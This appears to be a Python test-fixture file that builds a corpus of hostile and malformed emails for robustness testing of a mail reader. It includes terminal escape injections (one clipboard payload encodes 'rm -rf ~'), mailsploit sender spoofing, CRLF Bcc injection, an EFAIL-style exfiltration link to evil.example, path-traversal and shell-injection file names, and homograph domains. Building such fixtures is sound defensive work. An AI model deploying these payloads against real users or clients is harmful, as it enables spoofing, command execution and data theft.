"""Nasty mails, by name: what has broken mail programs, as bytes. `NASTY` is what other tests import.

Each has the word INNOCENT in what a reader should still see: subject, text or HTML. `UNREADABLE` are those that
leave nothing to see.
"""

from __future__ import annotations

import base64
import quopri
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

CRLF = b"\r\n"
UNREADABLE = frozenset({"cr only", "empty mail", "one byte", "nul bytes", "all bytes"})

ESCAPES: dict[str, str] = {
    "csi clear": "\x1b[2J\x1b[H",
    "csi colour": "\x1b[31mred\x1b[0m",
    "osc title": "\x1b]0;owned\x07",
    "osc hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "osc clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "osc without end": "\x1b]0;never ends",
    "dcs": "\x1bP+q544e\x1b\\",
    "apc": "\x1b_Gf=32;AAAA\x1b\\",
    "pm": "\x1b^secret\x1b\\",
    "query": "\x1b[6n\x1b[c\x05",
    "answerback": "\x05",
    "c1 csi": "\x9b2J",
    "c1 osc": "\x9d52;c;cm0=\x9c",
    "c1 dcs": "\x90+q\x9c",
    "reset": "\x1bc",
    "shift out": "\x0e\x0f",
    "bell": "\x07\x07\x07",
    "backspace": "safe\x08\x08\x08\x08evil",
    "overwrite": "safe\revil",
    "delete": "\x7f\x7f",
    "nul": "INN\x00OCENT",
}

INVISIBLE: dict[str, str] = {
    "rlo": "\u202ecod.exe",
    "lri": "\u2066a\u2069",
    "alm": "\u061c",
    "zwsp": "pay\u200bpal",
    "zwj outside emoji": "a\u200db",
    "zwnj": "a\u200cb",
    "bom": "\ufeffstart",
    "soft hyphen": "pay\u00adpal",
    "tags": "hi\U000e0041\U000e0042\U000e007f",
    "variation selectors": "a\ufe00\U000e0100",
    "hangul filler": "\u3164\u115f",
    "line separator": "one\u2028two\u2029three",
    "nel": "one\u0085two",
    "zalgo": "z" + "\u0310\u0311\u0312" * 40,
    "noncharacter": "\ufffe\uffff\ufdd0",
    "annotation": "\ufff9a\ufffab\ufffb",
}

MARKUP: dict[str, str] = {
    "closing tag": "Re: [/foo] hello [/]",
    "link action": "[@click=app.bell]press[/]",
    "open tag": "[bold red]",
    "half escape": "\\[bold] [/",
    "nested": "[[[[b]]]]",
    "rich emoji": ":smiley: [link=file:///etc/passwd]x[/link]",
    "format braces": "{0} {name!r} %s %(x)s $HOME `id`",
}

EVIL_TEXTS: dict[str, str] = {**ESCAPES, **INVISIBLE, **MARKUP}


def mail(*headers: bytes, body: bytes = b"INNOCENT", sender: bytes = b"Ada <ada@example.org>") -> bytes:
    """A message with the given header lines; From, To, Subject and Date are added where they are not given."""
    names = {line.partition(b":")[0].lower() for line in headers}
    lines = list(headers)
    for name, value in (
        (b"From", sender),
        (b"To", b"Bob <bob@example.org>"),
        (b"Subject", b"INNOCENT"),
        (b"Date", b"Mon, 23 Nov 2026 10:12:30 +0100"),
    ):
        if name.lower() not in names:
            lines.append(name + b": " + value)
    return CRLF.join(lines) + CRLF + CRLF + body


def typed(kind: bytes, body: bytes, encoding: bytes = b"8bit", *headers: bytes) -> bytes:
    """A message of one part with a Content-Type and a transfer encoding."""
    return mail(
        b"MIME-Version: 1.0",
        b"Content-Type: " + kind,
        b"Content-Transfer-Encoding: " + encoding,
        *headers,
        body=body,
    )


def part(kind: bytes, body: bytes, *headers: bytes) -> bytes:
    return CRLF.join((b"Content-Type: " + kind, *headers, b"", body))


def multi(*parts: bytes, subtype: bytes = b"mixed", boundary: bytes = b"BOUND", end: bool = True) -> bytes:
    """A multipart message of the given parts."""
    body = b"".join(b"--" + boundary + CRLF + each + CRLF for each in parts)
    if end:
        body += b"--" + boundary + b"--" + CRLF
    return typed(b"multipart/" + subtype + b'; boundary="' + boundary + b'"', body, b"7bit")


def word(text: str, label: str = "utf-8") -> bytes:
    return f"=?{label}?B?{base64.b64encode(text.encode('utf-8', 'surrogatepass')).decode()}?=".encode()


def q_word(text: str, label: str = "utf-8") -> bytes:
    return f"=?{label}?Q?{''.join(f'={byte:02X}' for byte in text.encode('utf-8', 'surrogatepass'))}?=".encode()


def _escape_mails() -> Iterator[tuple[str, bytes]]:
    for name, text in {**ESCAPES, **INVISIBLE}.items():
        raw = text.encode()
        in_one_line = raw.replace(b"\r", b"").replace(b"\n", b"")
        attachment = b'attachment; filename="' + in_one_line.replace(b'"', b"") + b'.txt"'
        yield (
            f"{name}: raw everywhere",
            mail(
                b"Subject: " + in_one_line + b" INNOCENT",
                b'From: "' + in_one_line.replace(b'"', b"").replace(b"\\", b"") + b'" <ada@example.org>',
                b"X-" + in_one_line.replace(b":", b"").replace(b" ", b"") + b": value",
                body=raw + CRLF + b"INNOCENT",
            ),
        )
        yield (
            f"{name}: encoded words",
            mail(
                b"Subject: " + word(text) + b" INNOCENT",
                b"From: " + q_word(text) + b" <ada@example.org>",
                b"To: " + word(text) + b" <bob@example.org>",
                b"Cc: team@example.org (" + word(text) + b")",
            ),
        )
        yield (
            f"{name}: base64 text and file name",
            multi(
                part(
                    b"text/plain; charset=utf-8",
                    base64.encodebytes(raw + b" INNOCENT"),
                    b"Content-Transfer-Encoding: base64",
                ),
                part(b"application/pdf", b"x", b"Content-Disposition: " + attachment),
                part(
                    b"application/pdf",
                    b"x",
                    b"Content-Disposition: attachment; filename*=utf-8''"
                    + b"".join(b"%%%02X" % c for c in raw)
                    + b".pdf",
                ),
            ),
        )
        entities = "".join(f"&#{ord(char)};" for char in text).encode()
        yield (
            f"{name}: html entities and quoted-printable",
            multi(
                part(
                    b"text/plain; charset=utf-8",
                    quopri.encodestring(raw) + b" INNOCENT",
                    b"Content-Transfer-Encoding: quoted-printable",
                ),
                part(b"text/html; charset=utf-8", b"<p title='" + entities + b"'>" + entities + raw + b" INNOCENT</p>"),
                subtype=b"alternative",
            ),
        )
    for name, text in MARKUP.items():
        raw = text.encode()
        yield (
            f"markup {name}",
            mail(
                b"Subject: " + raw + b" INNOCENT",
                b'From: "' + raw.replace(b"\\", b"\\\\") + b'" <ada@example.org>',
                body=raw + b" INNOCENT",
            ),
        )
    yield (
        "escape in iso-2022-jp",
        typed(b"text/plain; charset=iso-2022-jp", b"\x1b$B$3$s\x1b(B \x1b]52;c;cm0=\x07 \x1b[2J INNOCENT"),
    )
    yield "escape in utf-7", typed(b"text/plain; charset=utf-7", b"+ABs-[2J INNOCENT")
    yield (
        "escape in utf-16",
        typed(b"text/plain; charset=utf-16le", base64.b64encode("\x1b[2J INNOCENT".encode("utf-16le")), b"base64"),
    )
    yield "escape in charset label", typed(b'text/plain; charset="\x1b[2J\x07"', b"INNOCENT")
    yield (
        "escape in boundary",
        mail(b'Content-Type: multipart/mixed; boundary="\x1b[2J"', body=b"--\x1b[2J\r\n\r\nINNOCENT\r\n--\x1b[2J--"),
    )
    yield (
        "escape in message id",
        mail(b"Message-ID: <a\x1b]0;x\x07@b>", b"In-Reply-To: <\x9b2J@b>", b"References: <\x00@b> <c@d\x1b>"),
    )
    yield "escape in date", mail(b"Date: \x1b[2J23 Nov 2026 10:00 +0000")
    yield "escape in content type", mail(b"Content-Type: text/\x1b[2Jplain", body=b"INNOCENT")
    yield "escape in list post", mail(b"List-Post: <mailto:list\x1b[2J@example.org>")
    yield "escape in address", mail(b"From: <ada\x1b[2J@example.org>")
    yield "double encoded word", mail(b"Subject: " + word(word("\x1b[2J INNOCENT").decode()))


def _senders() -> Iterator[tuple[str, bytes]]:
    white = "potus@whitehouse.gov"
    tail = b"@mailsploit.example"
    payloads: dict[str, bytes] = {
        "nul": word(white) + q_word("\x00") + tail,
        "newline": word(white) + q_word("\n") + tail,
        "nul newline": word(white + "\x00\n") + tail,
        "crlf header": word(white + "\r\nBcc: evil@example.net\r\n") + tail,
        "paren": word(white) + q_word("(") + tail,
        "script": word(f"{white}\x00<script>alert(1)</script>") + tail,
        "quoted": b'"' + word(white) + q_word("\x00") + b'"' + tail,
        "angle in word": word(f"<{white}>") + b" <" + word(white) + tail + b">",
        "two words": word(white) + b" <" + word("evil") + tail + b">",
        "name poses": b'"' + white.encode() + b'" <evil@mailsploit.example>',
        "name poses twice": b'"Bank <' + white.encode() + b'>" <evil@mailsploit.example>',
        "padding": b'"' + white.encode() + b" " * 300 + b'" <evil@mailsploit.example>',
        "fullwidth at": '"potus\uff20whitehouse.gov" <evil@mailsploit.example>'.encode(),
        "utf-7 word": b"=?utf-7?Q?+AGEAQABi-?= <evil@mailsploit.example>",
    }
    for name, value in payloads.items():
        yield f"mailsploit {name}", mail(b"From: " + value)
    odd: dict[str, bytes] = {
        "unquoted address before": b"ada@example.org <evil@example.net>",
        "address after": b"<evil@example.net> ada@example.org",
        "two angles": b"<ada@example.org> <evil@example.net>",
        "comment cve-2023-27043": b"alice@example.org)bob@example.net",
        "bracket cve-2019-16056": b"alice@example.org@evil.example",
        "bracket cve-2023-27043": b"alice@example.org[bob@example.net",
        "list of two": b"ada@example.org, evil@example.net",
        "group": b"Friends: ada@example.org, bob@example.org;",
        "group empty": b"undisclosed-recipients:;",
        "group in group": b"a: b: ada@example.org;;;",
        "semicolons": b";" * 20_000,
        "colons": b"@" + b":" * 20_000,
        "commas": b"," * 20_000,
        "angles": b"<" * 20_000,
        "dots": b"a" + b"." * 20_000 + b"@example.org",
        "ats": b"@" * 20_000,
        "nested comments": b"(" * 20_000 + b"ada@example.org",
        "comments closed": b"(" * 9_000 + b")" * 9_000 + b" ada@example.org",
        "quotes": b'"' * 20_001,
        "escaped quotes": b'"\\' * 32_000,
        "quote without end": b'"Ada <ada@example.org>',
        "escapes in comments": b"(" + b'"\\"' * 8_000,
        "route": b"<@a,@b,@c:ada@example.org>",
        "quoted local part": b'"ada <x>, lovelace"@example.org',
        "literal domain": b"Ada <ada@[192.0.2.1]>",
        "spaces in address": b"Ada < ada @ example . org >",
        "empty": b"",
        "only a name": b"Ada",
        "only angle": b"<>",
        "no at": b"MAILER-DAEMON",
        "empty name": b'"" <ada@example.org>',
        "blank name": '"\u2800\u3164 " <ada@example.org>'.encode(),
        "long address": b"a" * 3000 + b"@" + b"b" * 3000 + b".example",
        "long name": b'"' + b"Ada " * 2000 + b'" <ada@example.org>',
        "many": b", ".join(b"Ada <ada%d@example.org>" % n for n in range(3000)),
        "idn": "Ada <ada@b\u00fccher.example>".encode(),
        "punycode": b"Ada <ada@xn--bcher-kva.example>",
        "homograph": "PayPal <service@p\u0430ypal.com>".encode(),
        "whole script": "Apple <id@\u0430\u0440\u0440\u04cf\u0435.com>".encode(),
        "bad punycode": b"Ada <ada@xn--\x99999999999.example>",
        "huge punycode": b"Ada <ada@xn--" + b"9" * 5000 + b".example>",
        "zero width domain": "Bank <ada@ba\u200bnk.example>".encode(),
        "eai": "J\u00fcrgen <j\u00fcrgen@b\u00fccher.example>".encode(),
        "latin-1 raw": "J\u00fcrgen <j@example.org>".encode("latin-1"),
        "control domain": b"Ada <ada@exa\x00mple.org>",
    }
    for name, value in odd.items():
        yield f"from {name}", mail(b"From: " + value)
    yield "from twice", mail(b"From: ada@example.org", b"From: evil@example.net")
    yield "from missing", b"To: bob@example.org\r\nSubject: INNOCENT\r\n\r\nINNOCENT"
    yield "from folded", mail(b"From:\r\n Ada\r\n\t<ada@example.org>")
    yield "sender and from", mail(b"From: ada@example.org", b"Sender: evil@example.net", b"Reply-To: other@example.com")


def _headers() -> Iterator[tuple[str, bytes]]:
    jp = "日本語の件名"
    split = jp.encode()
    subjects: dict[str, bytes] = {
        "split character": b"=?utf-8?B?"
        + base64.b64encode(split[:4])
        + b"?= =?utf-8?B?"
        + base64.b64encode(split[4:])
        + b"?= INNOCENT",
        "split quoted": b"=?utf-8?Q?=E6=97?= =?UTF-8?Q?=A5?= INNOCENT",
        "iso-2022-jp": b"=?ISO-2022-JP?B?" + base64.b64encode(jp.encode("iso2022_jp")) + b"?= INNOCENT",
        "gb2312": b"=?gb2312?B?" + base64.b64encode("\u4f60\u597d".encode("gbk")) + b"?= INNOCENT",
        "koi8-r": b"=?koi8-r?B?"
        + base64.b64encode("\u043f\u0440\u0438\u0432\u0435\u0442".encode("koi8-r"))
        + b"?= INNOCENT",
        "spaces inside": b"=?utf-8?Q?hello there INNOCENT?=",
        "no end": b"=?utf-8?Q?hello INNOCENT",
        "no charset": b"=??Q?hello?= INNOCENT",
        "unknown charset": b"=?x-klingon?Q?hello=E9?= INNOCENT",
        "codec charset": b"=?rot13?Q?vaabprag?= =?unicode_escape?Q?=5Cx1b?= INNOCENT",
        "unknown encoding": b"=?utf-8?X?hello?= INNOCENT",
        "bad base64": b"=?utf-8?B?!!!=a=b=c?= INNOCENT",
        "base64 without padding": b"=?utf-8?B?SU5OT0NFTlQ?=",
        "question marks": b"=?utf-8?Q?Really??_INNOCENT?=",
        "language": b"=?us-ascii*en?Q?INNOCENT?=",
        "no space between": b"a=?utf-8?Q?b?=c INNOCENT",
        "quoted": b'"=?utf-8?Q?INNOCENT?="',
        "many": b"=?utf-8?Q?a?= " * 5000 + b"INNOCENT",
        "starts only": b"=?x?q?a" * 9000,
        "raw utf-8": "Grüße INNOCENT".encode(),
        "raw latin-1": "Grüße INNOCENT".encode("latin-1"),
        "raw mixed": "Grüße ".encode() + "Grüße INNOCENT".encode("latin-1"),
        "wrong label": b"=?us-ascii?Q?Gr=C3=BC=C3=9Fe?= =?iso-8859-1?Q?Gr=C3=BC=C3=9Fe?= INNOCENT",
        "utf-8 label on latin-1": b"=?utf-8?Q?Gr=FC=DFe?= INNOCENT",
        "folded": b"one\r\n\ttwo\r\n  INNOCENT",
        "folded badly": b"one\r\nINNOCENT without indent",
        "empty": b"",
        "huge": b"INNOCENT " + b"x" * 100_000,
        "tabs": b"a\tb\t\tINNOCENT",
        "bare cr": b"a\rBcc: evil@example.net\rINNOCENT",
    }
    for name, value in subjects.items():
        yield f"subject {name}", mail(b"Subject: " + value)
    dates = {
        "year 99999": b"Mon, 1 Jan 99999 00:00:00 +0000",
        "year 0": b"1 Jan 0000 00:00 +0000",
        "year 70": b"1 Jan 70 00:00:00 GMT",
        "year 2": b"1 Jan 26 00:00:00 GMT",
        "huge zone": b"1 Jan 2026 00:00:00 +99999999999",
        "negative zone": b"1 Jan 2026 00:00:00 -9959",
        "day 32": b"32 Jan 2026 00:00:00 +0000",
        "hour 99": b"1 Jan 2026 99:99:99 +0000",
        "leap second": b"31 Dec 2016 23:59:60 +0000",
        "digits": b"9" * 5000,
        "arabic digits": "\u0661 Jan 2026 00:00:00".encode(),
        "empty": b"",
        "words": b"yesterday",
        "iso": b"2026-11-23T10:12:30+01:00",
        "ctime": b"Mon Nov 23 10:12:30 2026",
    }
    for name, value in dates.items():
        yield f"date {name}", mail(b"Date: " + value)
    yield "header block of a megabyte", mail(*(b"X-Filler-%d: %s" % (n, b"y" * 900) for n in range(1400)))
    yield "header of 200 KB", mail(b"X-Long: " + b"z" * 200_000)
    yield "header folded 30 000 times", mail(b"X-Long:" + b"\r\n a" * 30_000)
    yield "20 000 headers", mail(*(b"X: y",) * 20_000)
    yield "references of 5 000", mail(b"References: " + b" ".join(b"<%d@example.org>" % n for n in range(5000)))
    yield "message id without brackets", mail(b"Message-ID: abc@example.org")
    yield "message id empty", mail(b"Message-ID: <>", b"References: <<<>>>")
    yield "header without name", mail(b": nothing", b" folded start", b"NoColonHere")
    yield "header with spaces before colon", mail(b"Subject : INNOCENT")
    yield "unix from line", b"From ada Mon Nov 23 10:12:30 2026\n" + mail().replace(b"\r\n", b"\n")
    yield "lf only", mail().replace(b"\r\n", b"\n")
    yield "cr only", mail().replace(b"\r\n", b"\r")
    yield "mixed line ends", mail(body=b"one\ntwo\rthree\r\nINNOCENT")
    yield "no body", mail(body=b"")
    yield "headers only", mail()[: -len(b"\r\n\r\nINNOCENT")]
    yield "no headers", b"INNOCENT\r\nand no header at all"
    yield "blank first", b"\r\nINNOCENT"
    yield "empty mail", b""
    yield "one byte", b"\xff"
    yield "nul bytes", b"\x00" * 1000
    yield "all bytes", bytes(range(256)) * 20
    yield "dots", mail(body=b".\r\n..\r\n...\r\n" * 3000 + b"INNOCENT")


def _mime() -> Iterator[tuple[str, bytes]]:
    labels = (
        "rot13 zlib bz2 hex base64 uu quopri unicode_escape raw_unicode_escape undefined idna punycode mbcs oem palmos "
        "utf-8-sig unknown-8bit x-unknown 8bit ../../etc/passwd utf-8\x00"
    )
    for label in labels.split():
        yield f"charset {label!a}", typed(f'text/plain; charset="{label}"'.encode(), b"INNOCENT \\x1b[2J \xe9")
    yield "charset very long", typed(b"text/plain; charset=" + b"u" * 10_000, b"INNOCENT")
    yield "charset wrong utf-8", typed(b"text/plain; charset=utf-8", b"INNOCENT Gr\xfc\xdfe")
    yield "charset latin-1 that is utf-8", typed(b"text/plain; charset=iso-8859-1", "INNOCENT Grüße".encode())
    yield "charset missing", mail(body="INNOCENT Grüße".encode("latin-1"))
    yield "charset in meta", typed(b"text/html", b"<html><meta charset=koi8-r><p>INNOCENT \xf0\xd2\xc9\xd7\xc5\xd4")
    yield "mime version missing", mail(b"Content-Type: text/html", body=b"<p>INNOCENT</p>")
    yield "html called plain", typed(b"text/plain", b"<!DOCTYPE html><html><body><p>INNOCENT</p></body></html>")
    yield "boundary missing", mail(b"Content-Type: multipart/mixed", body=b"--x\r\n\r\nINNOCENT\r\n--x--")
    yield "boundary never used", mail(b"Content-Type: multipart/mixed; boundary=nowhere", body=b"INNOCENT")
    yield "boundary empty", mail(b'Content-Type: multipart/mixed; boundary=""', body=b"--\r\n\r\nINNOCENT\r\n----")
    yield "boundary of dashes", multi(part(b"text/plain", b"INNOCENT"), boundary=b"----")
    yield (
        "boundary with space at end",
        mail(b'Content-Type: multipart/mixed; boundary="b "', body=b"--b \r\n\r\nINNOCENT\r\n--b --\r\n"),
    )
    yield "boundary not closed", multi(part(b"text/plain", b"INNOCENT"), end=False)
    yield (
        "boundary same inside",
        multi(
            part(b"multipart/mixed; boundary=BOUND", b"--BOUND\r\n\r\nINNOCENT\r\n--BOUND--"),
            part(b"text/plain", b"more"),
        ),
    )
    yield (
        "boundary prefix of another",
        multi(
            part(b"multipart/mixed; boundary=BOUND--", b"--BOUND--\r\n\r\nINNOCENT\r\n--BOUND----"),
            part(b"text/plain", b"more"),
        ),
    )
    yield "boundary line in header", multi(b"Content-Type: text/plain", part(b"text/plain", b"INNOCENT"))
    yield "part without headers", multi(b"\r\nINNOCENT")
    yield "part without blank line", multi(b"INNOCENT text right away")
    yield "empty parts", multi(b"", b"", part(b"text/plain", b"INNOCENT"))
    yield "closing first", mail(b"Content-Type: multipart/mixed; boundary=b", body=b"--b--\r\nINNOCENT")
    yield "text after the end", multi(part(b"text/plain", b"INNOCENT")) + b"epilogue"
    yield "10 001 parts", multi(*(b"\r\nx",) * 10_001)
    yield "10 000 parts", multi(*(b"\r\nINNOCENT",) * 10_000)
    for depth in (99, 101, 3000):
        yield (
            f"{depth} nested parts",
            mail(
                b"Content-Type: multipart/mixed; boundary=b0",
                body=b"".join(
                    b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (n, n + 1)
                    for n in range(depth - 1)
                )
                + b"--b%d\r\n\r\nINNOCENT\r\n" % (depth - 1),
            ),
        )
    nested = mail(body=b"INNOCENT")
    for _ in range(200):
        nested = mail(b"Content-Type: message/rfc822", body=nested)
    yield "200 nested messages", nested
    yield "50 000 false boundaries", multi(part(b"text/plain", b"--no\r\n" * 50_000 + b"INNOCENT"))
    yield (
        "10 000 boundaries without blank line",
        mail(b"Content-Type: multipart/mixed; boundary=b", body=b"--b\r\n" * 9_999 + b"x\n" * 100_000),
    )
    yield "type nonsense", mail(b"Content-Type: ;;;;", body=b"INNOCENT")
    yield "type semicolons", mail(b"Content-Type: text/plain" + b";" * 60_000, body=b"INNOCENT")
    yield "type parameters", mail(b"Content-Type: text/plain" + b"; a=b" * 12_000, body=b"INNOCENT")
    yield "type quotes", mail(b'Content-Type: text/plain; charset="' + b'\\"' * 20_000, body=b"INNOCENT")
    yield "type only text", mail(b"Content-Type: text", body=b"INNOCENT")
    yield "type twice", mail(b"Content-Type: text/plain", b"Content-Type: text/html", body=b"INNOCENT")
    yield "encoding unknown", typed(b"text/plain", b"INNOCENT", b"x-who-knows")
    yield (
        "encoding uuencode",
        typed(b"text/plain", b"begin 644 evil.exe\r\n#0V%T\r\n`\r\nend\r\nINNOCENT", b"x-uuencode"),
    )
    yield "encoding base64 broken", typed(b"text/plain", b"SU5OT0NF!!\xffTlQ", b"base64")
    yield "encoding base64 and footer", typed(b"text/plain", b"SU5OT0NFTlQ=\r\n\r\n_______\r\nlist footer", b"base64")
    yield "encoding quoted-printable broken", typed(b"text/plain", b"INNOCENT =ZZ =\r\n= =4", b"quoted-printable")
    yield (
        "encoding of a multipart",
        mail(
            b"Content-Type: multipart/mixed; boundary=b",
            b"Content-Transfer-Encoding: base64",
            body=b"--b\r\n\r\nINNOCENT\r\n--b--",
        ),
    )
    yield (
        "alternative upside down",
        multi(part(b"text/html", b"<b>INNOCENT"), part(b"text/plain", b"INNOCENT"), subtype=b"alternative"),
    )
    yield "alternative of one", multi(part(b"text/html", b"<b>INNOCENT</b>"), subtype=b"alternative")
    yield (
        "alternative blank text",
        multi(part(b"text/plain", b" \r\n"), part(b"text/html", b"<b>INNOCENT"), subtype=b"alternative"),
    )
    yield (
        "efail",
        multi(
            part(b"text/html", b'<p>INNOCENT<img src="http://evil.example/'),
            part(b"text/plain", b"-----BEGIN PGP MESSAGE-----"),
            part(b"text/html", b'">'),
        ),
    )
    yield "html then footer", multi(part(b"text/html", b"<p>INNOCENT</p>"), part(b"text/plain", b"list footer"))
    yield (
        "calendar",
        multi(
            part(b"text/plain", b"INNOCENT"),
            part(b"text/calendar; method=REQUEST", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR"),
            subtype=b"alternative",
        ),
    )
    yield (
        "external body",
        multi(
            part(b"text/plain", b"INNOCENT"),
            part(
                b'message/external-body; access-type=URL; URL="http://evil.example/x"',
                b"Content-Type: text/plain\r\n\r\n",
            ),
        ),
    )
    yield "partial", typed(b'message/partial; id="x@y"; number=1; total=2', b"Subject: INNOCENT\r\n\r\nhalf", b"7bit")
    yield (
        "winmail.dat",
        multi(
            part(b"text/plain", b"INNOCENT"), part(b"application/ms-tnef; name=winmail.dat", b"\x78\x9f\x3e\x22" * 50)
        ),
    )
    yield (
        "zip bomb",
        multi(part(b"text/plain", b"INNOCENT"), part(b"application/zip; name=42.zip", b"PK\x03\x04" + b"\0" * 1000)),
    )
    yield (
        "attached message",
        multi(
            part(b"text/plain", b"INNOCENT"),
            part(b"message/rfc822", mail(b"Subject: ../../etc/\x1b[2Jpasswd", body=b"inner")),
        ),
    )
    yield "digest", multi(b"\r\n" + mail(body=b"INNOCENT"), b"\r\n" + mail(body=b"two"), subtype=b"digest")
    yield (
        "report",
        multi(
            part(b"text/plain", b"INNOCENT"),
            part(b"message/delivery-status", b"Reporting-MTA: dns; x\r\n\r\nStatus: 5.1.1"),
            part(b"message/rfc822", mail()),
            subtype=b"report; report-type=delivery-status",
        ),
    )
    yield (
        "fake signature",
        typed(b"text/plain; charset=utf-8", "✓ Good signature from Ada <ada@example.org>\r\nINNOCENT".encode()),
    )
    yield (
        "signed in part",
        multi(
            part(b"text/plain", b"INNOCENT"),
            part(b"application/pgp-signature", b"-----BEGIN PGP SIGNATURE-----"),
            subtype=b"signed",
        ),
    )
    yield "flowed", typed(b"text/plain; format=flowed; delsp=yes", b"INNOCENT \r\n> quoted \r\n> more\r\n-- \r\nAda")
    yield "long line", typed(b"text/plain", b"INNOCENT " + b"x" * 300_000)
    yield "text of 2 MB", typed(b"text/plain", b"INNOCENT 0123456789\r\n" * 100_000)
    yield "html hostile", typed(b"text/html", b"INNOCENT" + b"<div>" * 15_000 + b"<!--" * 500)


FILE_NAMES: dict[str, str] = {
    "traversal": "../../../etc/passwd",
    "absolute": "/etc/passwd",
    "unc": "\\\\evil\\share\\x.exe",
    "drive": "C:\\Windows\\evil.exe",
    "stream": "x.txt:evil.exe",
    "dotfile": ".bashrc",
    "dots": "..",
    "option": "-rf",
    "home": "~root",
    "device": "CON.txt",
    "overlong": "a" * 5000 + ".pdf",
    "overlong wide": "\u8a9e" * 500 + ".pdf",
    "overlong extension": "a." + "b" * 5000,
    "nul": "x.txt\x00.exe",
    "newline": "x\r\ny.txt",
    "rlo": "invoice\u202efdp.exe",
    "double": "invoice.pdf.exe",
    "double spaced": "invoice.pdf" + " " * 200 + ".exe",
    "spaces": "   ",
    "trailing dot": "evil.exe. . ",
    "shell": "`id`;$(id)|x.sh",
    "fullwidth slash": "..\uff0f..\uff0fetc\uff0fpasswd",
    "percent": "..%2f..%2fpasswd",
    "escape": "\x1b]0;x\x07.txt",
    "surrogate": "x\ud800.txt",
    "empty": "",
    "markup": "[/b][@click=app.bell]x[/].txt",
}


def _file_names() -> Iterator[tuple[str, bytes]]:
    for name, file_name in FILE_NAMES.items():
        raw = file_name.encode("utf-8", "surrogatepass")
        plain = raw.replace(b"\\", b"\\\\").replace(b"\r\n", b" ")
        percent = b"".join(b"%%%02X" % byte for byte in raw)
        yield (
            f"file name {name}",
            multi(
                part(b"text/plain", b"INNOCENT"),
                part(b"application/octet-stream", b"x", b'Content-Disposition: attachment; filename="' + plain + b'"'),
                part(
                    b"application/octet-stream", b"x", b"Content-Disposition: attachment; filename*=utf-8''" + percent
                ),
                part(b"application/octet-stream; name=" + word(file_name), b"x"),
                part(
                    b"application/octet-stream",
                    b"x",
                    b"Content-Disposition: attachment; filename*0*=utf-8''"
                    + percent[:30]
                    + b"; filename*1*="
                    + percent[30:],
                ),
            ),
        )
    yield (
        "file name rfc2231 gaps",
        multi(
            part(b"text/plain", b"INNOCENT"),
            part(
                b"application/pdf",
                b"x",
                b"Content-Disposition: attachment; filename*0=a; filename*2=c; filename*999=z; filename*x=y",
            ),
            part(b"application/pdf", b"x", b"Content-Disposition: attachment; filename*=rot13''%61; filename*1*=''''"),
        ),
    )


NASTY: dict[str, bytes] = {
    name: raw for maker in (_escape_mails, _senders, _headers, _mime, _file_names) for name, raw in maker()
}
